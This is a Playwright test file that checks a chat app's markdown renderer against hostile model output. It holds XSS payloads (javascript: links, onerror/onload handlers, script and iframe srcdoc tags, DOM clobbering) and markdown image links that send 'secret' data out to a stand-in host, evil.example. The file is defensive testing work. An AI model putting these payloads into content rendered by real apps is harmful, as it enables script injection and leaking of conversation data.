import { expect, test, type Page } from '@playwright/test';
import { forbidDialogs, lastAnswer, openChat, send } from './chat-helpers.ts';
import { CROSS_ORIGIN_APP_URL, DEMO_GATEWAY_URL } from './servers.ts';

/**
 * Hostile model output in the real app: the demo model repeats the prompt in its answer, so each
 * prompt below puts an XSS or exfiltration payload into rendered markdown. No dialog may open, no
 * request may leave for a host other than the app and its gateway, nothing but the renderer's own
 * elements may appear. (The whole payload set, and pathological markdown, run in
 * tests/component/render in Chromium too.)
 */
const PAYLOADS = [
	'[a](javascript:alert(1)) [b](JaVaScRiPt:alert(2)) [c](&#106;avascript:alert(3)) <javascript:alert(4)>',
	'<img src=x onerror=alert(5)> <svg onload=alert(6)> <script>alert(7)</script>',
	'<iframe srcdoc="<script>parent.alert(8)</script>"></iframe> [d](vbscript:msgbox(9))',
	'[e](data:text/html,<script>alert(10)</script>) ![x](https://evil.example/p.png?q=secret)',
	'<noscript><p title="</noscript><img src=x onerror=alert(11)>"> <a id=location name=body>'
];

/** Records every request to a host other than the app's own and its gateway's. */
function watchForeignRequests(page: Page, baseURL: string | undefined): string[] {
	const allowed = new Set([new URL(baseURL ?? 'http://127.0.0.1').host]);
	if (baseURL === CROSS_ORIGIN_APP_URL) allowed.add(new URL(DEMO_GATEWAY_URL).host);
	const foreign: string[] = [];
	page.on('request', (request) => {
		const url = new URL(request.url());
		if (url.protocol !== 'data:' && url.protocol !== 'blob:' && !allowed.has(url.host))
			foreign.push(request.url());
	});
	return foreign;
}

test('model output cannot run a script, load a resource or reach another host', async ({
	page,
	baseURL
}) => {
	forbidDialogs(page);
	const foreign = watchForeignRequests(page, baseURL);
	await openChat(page);
	for (const [index, payload] of PAYLOADS.entries()) {
		await send(page, payload);
		// This prompt's own answer, not the one before it (which is completed already): the next
		// prompt is sent only once this answer is over, never while the composer is busy.
		await expect(page.locator('[data-role="assistant"]')).toHaveCount(index + 1);
		await expect(lastAnswer(page)).toHaveAttribute('data-turn-status', 'completed');
		await expect(lastAnswer(page)).toContainText('You said');
	}
	const answers = page.locator('[data-role="assistant"] [data-markdown]');
	await expect(answers).toHaveCount(PAYLOADS.length);
	await expect(
		answers.locator('script, iframe, img, svg, object, embed, [onerror], [onload], [srcdoc]')
	).toHaveCount(0);
	for (const href of await answers
		.locator('a')
		.evaluateAll((links) => links.map((link) => link.getAttribute('href') ?? '')))
		expect(href).toMatch(/^(https?:\/\/|mailto:)/);
	// Raw HTML stays visible as text.
	await expect(answers.nth(1)).toContainText('<script>alert(7)</script>');
	await expect(page.getByRole('button', { name: 'Load image from evil.example' })).toBeVisible();
	// DOM clobbering: ids and names from the text never reach the document.
	expect(await page.evaluate(() => window.location instanceof Location)).toBe(true);
	expect(await page.evaluate(() => document.body instanceof HTMLBodyElement)).toBe(true);
	await page.waitForTimeout(500);
	expect(foreign).toEqual([]);
});

test('a remote image is fetched only after the person asks for it, without a referrer', async ({
	page,
	baseURL
}) => {
	const foreign = watchForeignRequests(page, baseURL);
	const pixel = Buffer.from(
		'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAQAAAC1HAwCAAAAC0lEQVR42mNkYAAAAAYAAjCB0C8AAAAASUVORK5CYII=',
		'base64'
	);
	const referrers: (string | undefined)[] = [];
	await page.route('https://evil.example/**', async (route) => {
		referrers.push(route.request().headers()['referer']);
		await route.fulfill({ status: 200, contentType: 'image/png', body: pixel });
	});
	await openChat(page);
	await send(page, 'look ![a pixel](https://evil.example/pixel.png?conversation=secret)');
	await expect(lastAnswer(page)).toHaveAttribute('data-turn-status', 'completed');
	const load = lastAnswer(page).getByRole('button', { name: 'Load image from evil.example' });
	await expect(load).toBeVisible();
	await page.waitForTimeout(300);
	expect(foreign).toEqual([]);
	await load.click();
	// Shown in a sandboxed frame whose own policy allows that one origin; the page's does not.
	const frame = lastAnswer(page).frameLocator('iframe[data-remote-image-frame]');
	const image = frame.getByRole('img', { name: 'a pixel' });
	await expect(image).toBeVisible();
	await expect
		.poll(() => image.evaluate((element: HTMLImageElement) => element.naturalWidth))
		.toBe(1);
	expect(foreign).toEqual(['https://evil.example/pixel.png?conversation=secret']);
	expect(referrers).toEqual([undefined]);
	const pagePolicy = (await page.request.get(page.url())).headers()['content-security-policy'];
	expect(pagePolicy).toContain("img-src 'self' data: blob:;");
});
